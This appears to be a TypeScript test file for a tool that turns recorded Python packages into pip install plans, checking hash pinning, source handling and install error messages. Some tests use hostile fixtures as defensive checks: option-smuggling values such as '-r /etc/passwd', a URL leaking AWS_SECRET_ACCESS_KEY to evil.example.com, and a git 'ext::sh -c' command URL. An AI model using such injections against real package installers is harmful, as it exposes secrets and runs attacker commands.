/** From recorded packages to what an installer is told. */
import assert from 'node:assert/strict'
import { installPlan, likelyReason, packagesOfText } from '../../../../src/tracking/reproduce/requirements.ts'

const HASH = `sha256:${'a'.repeat(64)}`

describe('what is installed for a reproduction', () => {
  it('asks for hashes of all that have some, apart from those that have none', () => {
    const plan = installPlan(
      [
        { name: 'numpy', version: '2.3.5', hashes: [HASH, `sha256:${'b'.repeat(64)}`] },
        { name: 'scipy', version: '1.16.3' },
        { name: 'pip', version: '24.0' },
        {
          name: 'wheelhouse',
          version: '1',
          from: { kind: 'archive', url: 'https://example.com/w-1.whl' },
          hashes: [HASH],
        },
      ],
      '/tmp/w',
    )
    assert.deepEqual(plan.steps, [
      {
        what: 'packages with recorded hashes',
        lines: [
          `numpy==2.3.5 --hash=${HASH} --hash=sha256:${'b'.repeat(64)}`,
          `wheelhouse @ https://example.com/w-1.whl --hash=${HASH}`,
        ],
        hashed: true,
      },
      { what: 'packages by name and version', lines: ['scipy==1.16.3'], hashed: false },
    ])
    assert.equal(plan.count, 3)
    assert.equal(plan.hashed, 2)
  })

  it('takes editable packages from the worktree, those of repositories at their commit, and says what lies outside', () => {
    const plan = installPlan(
      [
        { name: 'own', version: '0.1', from: { kind: 'editable', url: '.' } },
        { name: 'lib', version: '0.1', from: { kind: 'path', url: 'libs/lib' } },
        { name: 'far', version: '0.1', from: { kind: 'editable', url: '/srv/far' } },
        {
          name: 'vc',
          version: '0.1',
          from: { kind: 'vcs', url: 'https://example.com/vc', vcs: 'git', commit: 'abc123', subdirectory: 'py' },
        },
      ],
      '/tmp/w',
    )
    assert.deepEqual(plan.steps[0]?.lines, [
      '-e /tmp/w',
      '/tmp/w/libs/lib',
      '-e /srv/far',
      'vc @ git+https://example.com/vc@abc123#subdirectory=py',
    ])
    assert.equal(plan.risks.length, 1)
    assert.match(plan.risks[0] ?? '', /far was installed from \/srv\/far/)
  })

  it('lets no line of a record become an option of pip', () => {
    const evil = [
      { name: '-r /etc/passwd', version: '1' },
      { name: 'x', version: '1 --index-url https://evil.example.com' },
      { name: 'y', version: '1', hashes: ['sha256:00 --pre'] },
      { name: 'z', version: '1', from: { kind: 'archive' as const, url: 'https://a/b.whl\n-r evil' } },
    ]
    const plan = installPlan(evil, '/tmp/w')
    assert.deepEqual(plan.steps, [])
    assert.equal(plan.risks.length, 4)
  })

  it('gives pip no address that it would expand, that runs something, or that it cannot know', () => {
    const archive = (url: string) => ({ name: 'a', version: '1', from: { kind: 'archive' as const, url } })
    const vcs = (url: string, more: object = {}) => ({
      ...{ name: 'v', version: '1' },
      from: { kind: 'vcs' as const, url, vcs: 'git', commit: 'abc123', ...more },
    })
    const evil = [
      archive(`https://evil.example.com/\${AWS_SECRET_ACCESS_KEY}/a.whl`),
      archive('https://example.com/a.whl --pre'),
      archive('https://example.com/a.whl;python_version>"3"'),
      archive('ftp://example.com/a.whl'),
      archive('../../elsewhere/a.whl'),
      vcs('ext::sh -c touch% /tmp/x'),
      vcs('http://example.com/r'),
      vcs('https://example.com/r', { vcs: 'cvs' }),
      vcs('https://example.com/r', { vcs: 'constructor' }),
      vcs('https://example.com/r', { commit: '-x' }),
      vcs('https://example.com/r', { subdirectory: '../..' }),
      vcs('https://example.com/r', { subdirectory: 'x&egg=y' }),
      { name: 'p', version: '1', from: { kind: 'path' as const, url: 'libs/p --pre' } },
      { name: 'c', version: '1', from: { kind: 'conda' as const, url: 'https://example.com/c.conda\nhttps://evil' } },
    ]
    const plan = installPlan(evil, '/tmp/w')
    assert.deepEqual([plan.steps, plan.conda, plan.sources], [[], [], []])
    assert.equal(plan.risks.length, evil.length)
  })

  it('names every source that is no index, and takes archives of the project from the worktree', () => {
    const plan = installPlan(
      [
        { name: 'numpy', version: '2' },
        { name: 'own', version: '1', from: { kind: 'editable', url: '.' } },
        { name: 'wheel-of-ours', version: '1', from: { kind: 'archive', url: 'libs/w-1.whl' } },
        { name: 'far', version: '1', from: { kind: 'archive', url: 'https://example.com/far-1.whl' } },
        {
          name: 'vc',
          version: '1',
          from: { kind: 'vcs', url: 'ssh://git@example.com/vc', vcs: 'git', commit: 'abc123' },
        },
        { name: 'x', version: '1', from: { kind: 'conda', url: 'https://example.com/forge/linux-64/x-1.conda' } },
        { name: 'y', version: '1', from: { kind: 'conda', url: 'https://example.com/forge/noarch/y-1.conda' } },
      ],
      '/tmp/w',
    )
    assert.deepEqual(plan.sources, [
      'far from https://example.com/far-1.whl',
      'vc from git+ssh://git@example.com/vc@abc123',
      "conda's packages from https://example.com/forge",
    ])
    assert.ok(plan.steps[0]?.lines.includes('wheel-of-ours @ file:///tmp/w/libs/w-1.whl'))
  })

  it('reads the lock of older writers', () => {
    assert.deepEqual(packagesOfText('numpy==2.3.5\n\n-e odd\nscipy==1.16.3\n'), [
      { name: 'numpy', version: '2.3.5' },
      { name: 'scipy', version: '1.16.3' },
    ])
  })

  it('says in a sentence why an installation failed', () => {
    assert.match(
      likelyReason(['ERROR: No matching distribution found for torch==2.1.0+cpu']) ?? '',
      /index of its own.*PIP_EXTRA_INDEX_URL/,
    )
    assert.match(
      likelyReason(['ERROR: No matching distribution found for numpy==9.9']) ?? '',
      /does not have this version/,
    )
    assert.match(
      likelyReason(['ERROR: THESE PACKAGES DO NOT MATCH THE HASHES FROM THE REQUIREMENTS FILE.']) ?? '',
      /not the one/,
    )
    assert.equal(likelyReason(['error: subprocess-exited-with-error']), undefined)
  })
})
